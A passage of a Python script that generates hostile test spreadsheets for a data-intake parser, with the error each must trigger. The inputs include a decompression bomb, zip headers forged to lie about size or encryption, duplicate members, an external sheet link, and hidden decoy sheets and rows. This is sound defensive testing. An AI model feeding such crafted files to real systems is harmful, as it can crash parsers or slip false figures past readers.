    cell_case("cell-error-value", '<c r="C{n}" t="e"><v>#DIV/0!</v></c>', "schema.wrong-type")
    cell_case("cell-formula-no-value", '<c r="C{n}"><f>1/0</f></c>', "schema.missing", "e.xlsx!电力!C2")
    xcase("cell-control-escape", workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row(
        evidence='<c r="E{n}" t="inlineStr"><is><t>INV_x0001_</t></is></c>')])), "rule.text.character",
          "e.xlsx!电力!E2")
    date_quantity = '<c r="C{n}"><v>1000</v></c>'
    for name, serial, style in (("serial-60", "60", "1"), ("serial-negative", "-5", "1"),
                                ("serial-huge", "3000000", "2"), ("serial-zero", "0", "3")):
        xcase(f"date-{name}", workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row(
            quantity=date_quantity, evidence=f'<c r="E{{n}}" s="{style}"><v>{serial}</v></c>')])), "input.xlsx-cell",
              "e.xlsx!电力!E2")
    xcase("row-number-text", workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row().replace('r="2"', 'r="abc"', 1)])),
          "input.xlsx-cell")
    xcase("row-number-zero", workbook_parts(sheet=sheet_xml([data_row().replace('<row r="2"', '<row r="0"')])),
          "input.xlsx-cell")
    xcase("row-number-huge", workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row().replace('<row r="2"',
                                                                                           '<row r="2000000"')])),
          "input.xlsx-cell")
    xcase("rows-out-of-order", workbook_parts(sheet=sheet_xml([data_row(3), HEADER_ROW.replace('r="1"', 'r="2"')])),
          "input.xlsx-cell")
    xcase("chartsheet-only", workbook_parts([("图表", "visible", "chartsheet")]), "input.xlsx-no-visible-sheet")
    xcase("chartsheet-named", workbook_parts([("图表", "visible", "chartsheet"), ("电力", "visible", "worksheet")]),
          "input.xlsx-sheet-kind", sheet="图表")
    xcase("hidden-only", workbook_parts([("电力", "hidden", "worksheet")]), "input.xlsx-no-visible-sheet")
    decoy = sheet_xml([HEADER_ROW, data_row(quantity='<c r="C{n}"><v>99999999</v></c>')])
    decoyed = workbook_parts([("decoy", "veryHidden", "worksheet"), ("电力", "visible", "worksheet")])
    decoyed["xl/worksheets/sheet1.xml"] = decoy
    xcase("very-hidden-decoy-first", decoyed, None, expect_mwh="1000")
    xcase("hidden-named-is-read", workbook_parts([("电力", "hidden", "worksheet")]), None, sheet="电力")
    xcase("sheet-missing-name", good, "input.xlsx-sheet", sheet="Sheet9")
    xcase("external-sheet-rel", bad_part("xl/_rels/workbook.xml.rels", str(good["xl/_rels/workbook.xml.rels"]).replace(
        'Target="worksheets/sheet1.xml"', 'Target="http://x.invalid/s.xml" TargetMode="External"')),
          "input.xlsx-no-visible-sheet")
    xcase("hidden-row-decoy", workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row(), data_row(
        3, quantity='<c r="C{n}"><v>99999999</v></c>', attrs=' hidden="1"')])),
          "input.xlsx-hidden-rows", "e.xlsx!电力!A3", level="invalid")
    xcase("empty-sheet", workbook_parts(sheet=sheet_xml([])), "input.empty")
    xcase("header-only", workbook_parts(sheet=sheet_xml([HEADER_ROW])), "schema.too-short")
    xcase("duplicate-member", _duplicate_member(good), "input.xlsx-unsafe")
    xcase("encrypted-member", _flag_encrypted(zipped(good)), "input.xlsx-unreadable")
    xcase("unknown-compression", _compression(zipped(good, zipfile.ZIP_STORED), 99), "input.xlsx-unreadable")
    xcase("bomb-small", bad_part("xl/worksheets/sheet1.xml", sheet_xml([HEADER_ROW, data_row()], extra="<!--" +
                                                                       " " * 3_000_000 + "-->")),
          "input.xlsx-too-large", patch={"disclosure.intake.ooxml.MAX_XLSX_INFLATED": 1_000_000})
    xcase("too-many-members", {**workbook_parts(), **{f"xl/media/pad{i}.bin": b"" for i in range(40)}},
          "input.xlsx-too-large", patch={"disclosure.intake.ooxml.MAX_XLSX_MEMBERS": 20})
    xcase("lying-size", _lying_size(good), "input.xlsx-unreadable")
    xcase("valid-strict-namespace", {k: v.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
        f"{REL}/", "http://purl.oclc.org/ooxml/officeDocument/relationships/") for k, v in good.items()}, None)
    xcase("valid-no-references", workbook_parts(sheet=sheet_xml([
        "<row>" + "".join(f'<c t="s"><v>{i}</v></c>' for i in range(5)) + "</row>",
        '<row><c t="s"><v>5</v></c><c t="s"><v>6</v></c><c><v>1000</v></c><c t="s"><v>7</v></c>'
        '<c t="s"><v>8</v></c></row>'])), None)
    xcase("valid-rich-text-phonetic", workbook_parts(strings=f'<sst xmlns="{MAIN}">' + "".join(
        f"<si><r><t>{s[:2]}</t></r><r><t>{s[2:]}</t></r><rPh><t>ignored</t></rPh></si>" for s in STRINGS) + "</sst>"),
          None)
    xcase("valid-absolute-target", bad_part("xl/_rels/workbook.xml.rels", str(good["xl/_rels/workbook.xml.rels"])
                                            .replace('Target="worksheets/', 'Target="/xl/worksheets/')), None)
    xcase("valid-1904-dates", workbook_parts(workbook_extra='<workbookPr date1904="1"/>'), None)
    xcase("valid-inline-strings", workbook_parts(sheet=sheet_xml([
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{s}</t></is></c>' for s in STRINGS[:5]) + "</row>",
        '<row><c t="inlineStr"><is><t>grid</t></is></c><c t="str"><v>2025</v></c><c><v>1E3</v></c>'
        '<c t="inlineStr"><is><t>MWh</t></is></c></row>'])), None)


def _duplicate_member(parts: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:
        for name, content in parts.items():
            book.writestr(zipfile.ZipInfo(name, STAMP), content)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            book.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml", STAMP), sheet_xml([HEADER_ROW]))
    return buffer.getvalue()


def _flag_encrypted(data: bytes) -> bytes:
    """Set the 'encrypted' flag bit of every member (local and central headers)."""
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (pos := out.find(sig, start)) >= 0:
            out[pos + offset] |= 0x01
            start = pos + 4
    return bytes(out)


def _compression(data: bytes, method: int) -> bytes:
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = 0
        while (pos := out.find(sig, start)) >= 0:
            out[pos + offset:pos + offset + 2] = method.to_bytes(2, "little")
            start = pos + 4
    return bytes(out)


def _lying_size(parts: dict[str, str]) -> bytes:
    """The sheet's sizes in its headers say 10 bytes; the data inflates to far more."""
    data = bytearray(zipped(dict(parts), zipfile.ZIP_DEFLATED))
    name = b"xl/worksheets/sheet1.xml"
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (pos := data.find(sig, start)) >= 0:
            name_at = pos + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[pos + offset:pos + offset + 4] = (10).to_bytes(4, "little")
            start = pos + 4
    return bytes(data)


BUILDERS: list[Callable[[], None]] = [yaml_cases, csv_cases, xlsx_cases]


def build() -> tuple[dict[str, bytes], dict[str, Case]]:
    CASES.clear()
    FILES.clear()
    for builder in BUILDERS:
        builder()
    return dict(FILES), dict(CASES)


def expected_text(cases: dict[str, Case]) -> str:
    header = "# Generated by make_corpus.py: what each hostile file must give. Do not edit by hand.\n"
    return header + yaml.safe_dump(cases, allow_unicode=True, sort_keys=True, width=120)


def write(root: Path = HERE) -> int:
    files, cases = build()
    for folder in ("yaml", "csv", "xlsx"):
        for old in (root / folder).glob("*"):
            old.unlink()
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (root / "expected.yaml").write_text(expected_text(cases), encoding="utf-8")
    return len(files)


if __name__ == "__main__":
    print(f"{write()} files written to {HERE}")
